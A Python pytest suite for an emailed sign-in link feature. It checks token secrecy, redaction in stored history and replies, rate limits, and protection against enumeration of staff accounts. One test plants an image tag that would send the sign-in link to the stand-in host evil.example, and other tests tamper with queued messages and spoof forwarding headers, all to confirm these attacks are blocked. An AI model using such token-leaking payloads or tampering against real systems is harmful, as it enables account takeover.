"""The link that comes by mail: to staff alone, once, and resting nowhere."""

from __future__ import annotations

import asyncio
import json
import re
import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import TYPE_CHECKING, Any
from uuid import UUID

import pytest

from channels.model import Channel
from gateway.parts import SIGN_IN
from tests.inbox.conftest import Browser, Inbox, Shown
from tests.service.conftest import Ask
from tests.service.test_service_changes_at_once import another
from tests.service.test_service_rules_of_others import TRIGGER, as_crm
from tests.service.wires import Api, by_smtp, connect, from_sendgrid, inbound_of, step, suppressed

if TYPE_CHECKING:
    from gateway.store.database import Connection

MEMBER = "member@alpha.example.com"
LINK = re.compile(r"https://msg\.example\.org/gw/inbox(/link/[\w-]{64})")


async def asked(browser: Browser, email: str = MEMBER, **headers: str) -> Shown:
    """The answer to somebody who asks for a link."""
    return await browser.post("/sign-in/link", {"email": email}, **headers)


async def messages(ask: Ask) -> list[dict[str, Any]]:
    """What the organization's history shows."""
    found: list[dict[str, Any]] = (await ask("GET", "/v1/messages")).body["data"]
    return found


async def test_the_link_in_the_mail_signs_in(inbox: Inbox, api: Api) -> None:
    """The mail goes through the organization's own sender, and its link opens the inbox."""
    await connect(inbox.gateway, "sendgrid", Channel.EMAIL)
    browser = inbox.browser()

    shown = await asked(browser, " MEMBER@alpha.example.com")
    await step(api.worker(inbox.gateway))
    text, html = (part["value"] for part in api.last["content"])
    path = LINK.findall(text)
    used = await browser.post(path[0])

    assert 200 == shown.status
    assert MEMBER == api.last["personalizations"][0]["to"][0]["email"]
    assert "List-Unsubscribe" not in json.dumps(api.last)
    assert 1 == len(path)
    assert [path[0]] * 2 == LINK.findall(html)
    assert f'href="https://msg.example.org/gw/inbox{path[0]}"' in html
    assert 303 == used.status


async def test_another_organization_takes_nobodys_link(inbox: Inbox, ask: Ask) -> None:
    """Where another organization writes the same mailbox in the very letters that are typed, who
    is staff here still gets the link: each organization sends its own, also where the other's
    cannot be stored."""
    await connect(inbox.gateway, "sendgrid", Channel.EMAIL)
    b = inbox.gateway.b.organization_id
    async with inbox.gateway.database.as_service() as db:
        change = "UPDATE auth_users SET email = $1 WHERE email = $2"
        await db.execute(change, MEMBER.title(), MEMBER)
        add = "INSERT INTO auth_users (auth_id, email, organization_id)"
        await db.execute(f"{add} VALUES (gen_random_uuid(), $1, $2)", MEMBER, b)
    assert 200 == (await asked(inbox.browser())).status
    assert [MEMBER] == [row["to_address"].lower() for row in await messages(ask)]

    b_is_refused = f"IF NEW.organization_id = '{b}' THEN RAISE 'no'; END IF;"
    rule = TRIGGER.format(b_is_refused).replace("public.messages", "gateway.staff_links")
    await as_crm(inbox.gateway, rule)
    assert 503 == (await asked(inbox.browser())).status
    assert 2 == len(await messages(ask))


async def test_whose_lead_is_deleted_meanwhile(inbox: Inbox, ask: Ask) -> None:
    """Staff who are a lead, too, get their link all the same: the answer told that they exist."""
    await connect(inbox.gateway, "sendgrid", Channel.EMAIL)
    lead = (await ask("POST", "/v1/leads", {"email": MEMBER})).body["id"]
    async with asyncio.TaskGroup() as together, another(inbox.gateway) as db:
        await db.execute("DELETE FROM leads WHERE id = $1", lead)
        shown = together.create_task(asked(inbox.browser()))

    assert 200 == shown.result().status
    assert [None] == [row["lead_id"] for row in await messages(ask)]


async def test_the_link_rests_nowhere(inbox: Inbox, ask: Ask, api: Api) -> None:
    """Neither the history nor any table holds the link, before it leaves and after."""
    account_id = await connect(inbox.gateway, "sendgrid", Channel.EMAIL)
    await asked(inbox.browser())
    before = await dump(inbox)

    await step(api.worker(inbox.gateway))
    (path,) = LINK.findall(api.last["content"][0]["value"])
    (row,) = await messages(ask)
    told = [
        {"event": word, "sg_event_id": word, "sg_message_id": "sg-1.x", "timestamp": 1764165600,
         "email": MEMBER, "gateway_id": row["id"], "url": f"https://msg.example.org/gw/inbox{path}"}
        for word in ("delivered", "click")
    ]  # fmt: skip
    answer = await from_sendgrid(inbox.gateway, account_id, told)
    events = (await ask("GET", f"/v1/messages/{row['id']}/events")).body["data"]

    assert (SIGN_IN in row["body"], "sign-in") == (True, row["metadata"]["purpose"])
    assert 200 <= answer.status < 300
    assert "/inbox/link/***" in json.dumps(events)
    token = path.rpartition("/")[2]
    assert token not in before
    assert token not in json.dumps([row, events])
    # What a provider sent is kept as it came, where no caller reads it.
    assert token not in await dump(inbox, leave_out=("gateway.webhook_requests",))


async def dump(inbox: Inbox, leave_out: tuple[str, ...] = ()) -> str:
    """Everything that is stored, as text."""
    found = []
    async with inbox.gateway.database.as_service() as db:
        names = await db.fetch(
            "SELECT format('%I.%I', schemaname, tablename) AS name FROM pg_tables"
            " WHERE schemaname IN ('public', 'gateway')"
            " AND has_table_privilege(format('%I.%I', schemaname, tablename), 'SELECT')"
        )
        for name in {row["name"] for row in names} - {*leave_out}:
            rows = await db.fetch(f"SELECT t::text AS row FROM {name} t")  # noqa: S608
            found += [row["row"] for row in rows]
    return "\n".join(found)


async def test_an_answer_that_quotes_the_link(inbox: Inbox, ask: Ask, api: Api) -> None:
    """Somebody who answers the mail shows the link to no colleague."""
    account_id = await connect(inbox.gateway, "smtp", Channel.EMAIL, "in@clinic.example")
    await connect(inbox.gateway, "sendgrid", Channel.EMAIL)
    await asked(inbox.browser())
    await step(api.worker(inbox.gateway))
    (path,) = LINK.findall(api.last["content"][0]["value"])
    raw = (
        f"From: {MEMBER}\r\nTo: in@clinic.example\r\nSubject: Re: Your link\r\n"
        f"Message-ID: <in-1@c>\r\n\r\nNot me!\r\nhttps://msg.example.org/gw/inbox{path}\r\n"
    )

    await by_smtp(inbox.gateway, account_id, raw.encode())
    (row,) = await inbound_of(ask)

    assert "inbox/link/***" in row["body"]
    assert path not in json.dumps(row)


async def test_a_link_is_not_sent_again(inbox: Inbox, ask: Ask, api: Api) -> None:
    """A mail that failed is not repeated by anybody; and nobody's own words become a link."""
    await connect(inbox.gateway, "sendgrid", Channel.EMAIL)
    await asked(inbox.browser())
    api.says(400, {"errors": [{"message": "no"}]})
    await step(api.worker(inbox.gateway))
    (row,) = await messages(ask)
    retried = await ask("POST", f"/v1/messages/{row['id']}/retry")
    mail = {"channel": "email", "to": "me@x.example", "subject": "x", "body": SIGN_IN}
    sent = await ask("POST", "/v1/messages", mail)
    await step(api.worker(inbox.gateway))

    assert ("failed", 409) == (row["status"], retried.status)
    assert 202 == sent.status
    assert SIGN_IN == api.last["content"][0]["value"].strip()


async def test_a_link_goes_to_whom_it_signs_in(inbox: Inbox, ask: Ask, api: Api) -> None:
    """A colleague who changes the stored mail, or makes one of their own like it, gets no link of
    somebody else's: neither by its address nor by a picture that the mail shows."""
    await connect(inbox.gateway, "sendgrid", Channel.EMAIL)
    await asked(inbox.browser(), "owner@alpha.example.com")
    (row,) = await messages(ask)
    soon = {"channel": "email", "to": MEMBER, "subject": "x", "body": SIGN_IN}
    own = (await ask("POST", "/v1/messages", soon)).body
    async with as_member(inbox) as db:
        picture = f"<img src='https://evil.example/?{SIGN_IN}'>"
        theirs = "UPDATE messages SET html_body = $2, body = $2, subject = 'x' WHERE id = $1"
        await db.execute(theirs, UUID(row["id"]), picture)
        copy = (
            "UPDATE messages SET parts = (SELECT parts FROM messages WHERE id = $1) WHERE id = $2"
        )
        await db.execute(copy, UUID(row["id"]), UUID(own["id"]))

    await step(api.worker(inbox.gateway))
    (_, sent), *others = [(asked_for, json.loads(body)) for asked_for, body in api.asked]
    assert [] == others
    assert "owner@alpha.example.com" == sent["personalizations"][0]["to"][0]["email"]
    assert ("Your link to sign in", False) == (sent["subject"], "evil" in json.dumps(sent))
    assert LINK.findall(sent["content"][0]["value"])
    refused = (await ask("GET", f"/v1/messages/{own['id']}")).body
    assert ("failed", "sign_in") == (refused["status"], refused["error_code"])


async def test_a_link_that_was_sent_elsewhere(inbox: Inbox, ask: Ask, api: Api) -> None:
    """A mail with a link whose address somebody changes is not sent."""
    await connect(inbox.gateway, "sendgrid", Channel.EMAIL)
    await asked(inbox.browser(), "owner@alpha.example.com")
    async with as_member(inbox) as db:
        await db.execute("UPDATE messages SET to_address = $1", MEMBER)
    await step(api.worker(inbox.gateway))
    (row,) = await messages(ask)
    assert ([], "failed", "sign_in") == (api.asked, row["status"], row["error_code"])


@asynccontextmanager
async def as_member(inbox: Inbox) -> AsyncIterator[Connection]:
    """The database as a member of staff has it through PostgREST."""
    async with inbox.gateway.database.as_service() as db:
        auth_id = await db.fetchval("SELECT auth_id FROM auth_users WHERE email = $1", MEMBER)
    async with inbox.gateway.database.as_claims(auth_id) as db:
        yield db


async def test_the_answer_tells_nobody_who_is_staff(inbox: Inbox, ask: Ask) -> None:
    """Known, unknown, dismissed and without a sender: one page, after the same time."""
    await connect(inbox.gateway, "sendgrid", Channel.EMAIL)
    await inbox.change(
        "UPDATE auth_users SET is_active = false WHERE email = 'owner@alpha.example.com'"
    )
    emails = [
        MEMBER, "nobody@alpha.example.com", "owner@alpha.example.com", "member@beta.example.com",
    ]  # fmt: skip
    pages, times = [], []
    for email in emails:
        took = []
        for _ in range(2):  # the quicker one has less of what else the machine is doing
            begun = time.monotonic()
            shown = await asked(inbox.browser(), email)
            took.append(time.monotonic() - begun)
            pages.append(shown.text.replace(email, "EMAIL"))
        times.append(min(took))

    assert 1 == len(set(pages))
    assert all(0.5 <= each < 1.5 for each in times), times
    assert [MEMBER] * 2 == [row["to_address"] for row in await messages(ask)]


async def test_an_address_that_is_suppressed_gets_no_link(inbox: Inbox, ask: Ask) -> None:
    """Not even then is the answer another one."""
    await connect(inbox.gateway, "sendgrid", Channel.EMAIL)
    await ask("POST", "/v1/suppressions", {"channel": "email", "address": MEMBER})

    shown = await asked(inbox.browser())

    assert {("email", MEMBER, "manual")} == await suppressed(ask)
    assert 200 == shown.status
    assert [] == await messages(ask)


@pytest.mark.parametrize("email", ["", "x", "@", "a b@c.example", "a@" + "b" * 300])
async def test_what_is_no_address(inbox: Inbox, email: str) -> None:
    """It is said beside the field, and what was typed stays."""
    shown = await asked(inbox.browser(), email)

    assert 422 == shown.status
    assert "Give your whole e-mail address" in shown.words
    assert f'value="{email}"' in shown.text


async def test_an_address_gets_five_links(inbox: Inbox, ask: Ask) -> None:
    """More within 15 minutes are refused, from anywhere, and for somebody unknown alike."""
    await connect(inbox.gateway, "sendgrid", Channel.EMAIL)
    found = {}
    for email in (MEMBER, "nobody@x.example"):
        found[email] = [
            (await asked(inbox.browser(), email, X_Forwarded_For=f"198.51.100.{n}")).status
            for n in range(6)
        ]
    sent = len(await messages(ask))
    await inbox.change("UPDATE gateway.sign_in_attempts SET begun_at = now() - interval '15 min'")
    later = await asked(inbox.browser())

    assert {MEMBER: [200] * 5 + [429], "nobody@x.example": [200] * 5 + [429]} == found
    assert 5 == sent
    assert 200 == later.status


async def test_a_client_gets_thirty(inbox: Inbox) -> None:
    """Whoever tries many addresses is stopped; others are not, nor who only says to be another."""
    tries = [
        asked(inbox.browser(), f"n{n}@x.example", X_Forwarded_For=f"192.0.2.{n}, 198.51.100.7")
        for n in range(31)
    ]
    shown = await asyncio.gather(*tries)
    refused = [each for each in shown if each.status != 200]
    other = await asked(inbox.browser(), "o@x.example", X_Forwarded_For="198.51.100.8")

    assert [(429, "900")] == [(each.status, each.headers["Retry-After"]) for each in refused]
    assert "Too many tries" in refused[0].words
    assert 200 == other.status
